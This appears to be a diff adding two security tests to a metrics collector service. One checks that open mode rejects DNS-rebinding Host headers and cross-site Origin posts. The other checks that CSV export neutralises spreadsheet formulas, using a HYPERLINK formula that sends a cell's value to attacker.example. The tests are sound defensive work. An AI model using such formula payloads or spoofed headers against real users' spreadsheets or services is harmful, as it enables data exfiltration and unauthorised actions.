@@ -5,6 +5,8 @@ others: secrets echoed back, windows that can never be stopped, stored values th
 """
 
 import base64
+import csv
+import io
 import json
 import os
 import shutil
@@ -16,6 +18,7 @@ import httpx
 import pytest
 from prometheus_client.parser import text_string_to_metric_families
 
+from app.report import csv_cell
 from tests.collector import NewTeam, Team, run_collector
 from tests.conftest import ADMIN_KEY
 from tests.metrics_server import serve_metrics
@@ -304,3 +307,43 @@ def test_logs_at_info_stay_quiet_idle_and_with_a_stuck_target(tmp_path: Path) ->
     lines = collector.stderr_text.splitlines()
     assert not [line for line in lines if "apscheduler" in line]
     assert not [line for line in lines if "Traceback" in line]
+
+
+def test_open_mode_answers_only_this_machines_names_and_pages(tmp_path: Path) -> None:
+    """Without keys, on loopback: a web page could reach the service by DNS rebinding (its own
+    name resolving to 127.0.0.1) or stop a window with a cross-site form post."""
+    with (
+        run_collector(f"sqlite:///{tmp_path}/open.db", tmp_path) as collector,
+        serve_metrics(body=drafts_payload(10)) as server,
+    ):
+        api = httpx.Client(base_url=collector.base_url, timeout=30)
+        assert api.post("/windows/o/start", json={"targets": [server.target]}).status_code == 201
+        port = collector.base_url.rsplit(":", 1)[1]
+        rebound = api.get("/windows/o", headers={"Host": f"attacker.example:{port}"})
+        assert rebound.status_code == 403
+        assert rebound.json()["detail"].startswith("Host is not this machine")
+        cross_site = api.post("/windows/o/stop", headers={"Origin": "http://attacker.example"})
+        assert cross_site.status_code == 403
+        assert api.post("/windows/o/stop", headers={"Origin": "null"}).status_code == 403
+        assert api.get("/windows/o").json()["state"] == "open"
+        for host in (f"localhost:{port}", f"127.0.0.1:{port}", "[::1]"):
+            assert api.get("/windows/o", headers={"Host": host}).status_code == 200
+        own_page = {"Origin": collector.base_url}
+        assert api.post("/windows/o/stop", headers=own_page).json()["state"] == "closed"
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_as_formulas_are_neutralised(
+    api: httpx.Client,
+) -> None:
+    formula = '=HYPERLINK("http://attacker.example/?"&A1,"open")'
+    with serve_metrics(body=drafts_payload(10)) as server:
+        body = {"targets": [server.target], "labels": {formula: "1"}}
+        assert api.post("/windows/csv/start", json=body).status_code == 201
+        api.post("/windows/csv/stop")
+    rows = list(csv.reader(io.StringIO(api.get("/windows", params={"format": "csv"}).text)))
+    header, (row,) = rows[0], rows[1:]
+    assert row[header.index("labels")] == "'" + f"{formula}=1"
+    for text in ("+cmd", "-1+1", "@SUM(A1)", "\tx", "=1"):
+        assert csv_cell(text) == "'" + text
+    for kept in ("a=1", "127.0.0.1:80", "", 5, -1.5):
+        assert csv_cell(kept) == kept
